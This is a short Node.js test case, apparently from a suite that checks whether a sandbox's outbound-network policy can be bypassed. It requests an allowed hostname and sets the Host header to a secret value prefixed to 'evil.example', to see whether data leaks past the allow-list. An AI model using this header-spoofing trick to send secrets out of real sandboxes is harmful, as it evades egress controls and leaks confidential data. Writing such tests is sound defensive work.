// class: network
// rule: outbound_connectivity
// policy: shared.yaml
// success: Node's http names another host at an allowed name's address
// proof: word
// needs: node resolver
'use strict';
const net = require('net');
const http = require('http');
const { attempt, SECRET } = require('./attack.js');
attempt(() => new Promise((fine, bad) => {
    const server = net.createServer((peer) => {
        peer.on('data', (bytes) => fine(bytes.toString('latin1')));
        peer.on('error', bad);
        peer.on('close', () => fine(''));
    });
    server.listen(80, '127.66.66.67', () => {
        const out = http.get({ host: 'plain.allowed.example', port: 80, headers: { Host: SECRET + '.evil.example' } });
        out.on('error', bad);
    });
}));
